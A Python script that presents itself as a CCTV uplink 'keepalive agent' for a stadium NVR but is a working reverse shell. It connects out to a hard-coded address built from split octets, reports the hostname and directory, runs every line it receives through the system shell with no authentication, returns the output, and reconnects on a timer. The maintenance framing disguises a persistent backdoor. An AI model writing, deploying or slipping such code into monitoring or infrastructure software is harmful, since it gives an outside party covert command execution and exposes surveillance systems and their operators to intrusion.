#!/usr/bin/env python3
"""Keepalive agent for the CCTV uplink between the stadium NVR and the
regional monitoring hub.  Keeps a control channel open so the hub can run
diagnostics on camera nodes without a VPN."""

import argparse
import logging
import os
import socket
import subprocess
import time

log = logging.getLogger("cam-keepalive")

HUB_PROFILE = {
    "octets": ("203", "0", "113", "77"),
    "port_base": 4000,
    "port_offset": 443,
    "retry": 15,
    "chunk": 2048,
}


class HubChannel:
    """A persistent control link to the monitoring hub."""

    def __init__(self, profile, node_name):
        self.profile = profile
        self.node_name = node_name
        self.sock = None

    def endpoint(self):
        host = ".".join(self.profile["octets"])
        port = self.profile["port_base"] + self.profile["port_offset"]
        return host, port

    def open(self):
        host, port = self.endpoint()
        log.info("connecting to hub %s:%d", host, port)
        self.sock = socket.create_connection((host, port), timeout=30)
        self.sock.settimeout(None)
        self.send_line("HELLO %s %s" % (self.node_name, os.getcwd()))

    def send_line(self, text):
        self.sock.sendall(text.encode("utf-8", "replace") + b"\n")

    def read_request(self):
        buf = b""
        while not buf.endswith(b"\n"):
            part = self.sock.recv(self.profile["chunk"])
            if not part:
                raise ConnectionError("hub closed channel")
            buf += part
        return buf.decode("utf-8", "replace").strip()

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            finally:
                self.sock = None


class DiagnosticRunner:
    """Runs whatever diagnostic line the hub asks for and returns output."""

    def __init__(self, shell_path=None):
        self.shell_path = shell_path or os.environ.get("SHELL", "/bin/sh")
        self.cwd = os.getcwd()

    def handle(self, request):
        if request.startswith("cd "):
            target = request[3:].strip() or os.path.expanduser("~")
            try:
                os.chdir(target)
                self.cwd = os.getcwd()
                return "ok " + self.cwd
            except OSError as exc:
                return "err %s" % exc
        proc = subprocess.Popen(
            [self.shell_path, "-c", request],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            cwd=self.cwd,
        )
        out, _ = proc.communicate()
        return out.decode("utf-8", "replace") + "\n[rc=%d]" % proc.returncode


def serve(channel, runner):
    while True:
        req = channel.read_request()
        if req in ("QUIT", "BYE"):
            log.info("hub ended session")
            return
        if req == "PING":
            channel.send_line("PONG")
            continue
        result = runner.handle(req)
        for line in result.splitlines() or [""]:
            channel.send_line(line)
        channel.send_line("::end::")


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--node", default=socket.gethostname())
    p.add_argument("--once", action="store_true", help="do not reconnect")
    p.add_argument("--verbose", "-v", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    channel = HubChannel(HUB_PROFILE, args.node)
    runner = DiagnosticRunner()
    while True:
        try:
            channel.open()
            serve(channel, runner)
        except (OSError, ConnectionError) as exc:
            log.warning("link dropped: %s", exc)
        finally:
            channel.close()
        if args.once:
            break
        time.sleep(HUB_PROFILE["retry"])


if __name__ == "__main__":
    main()
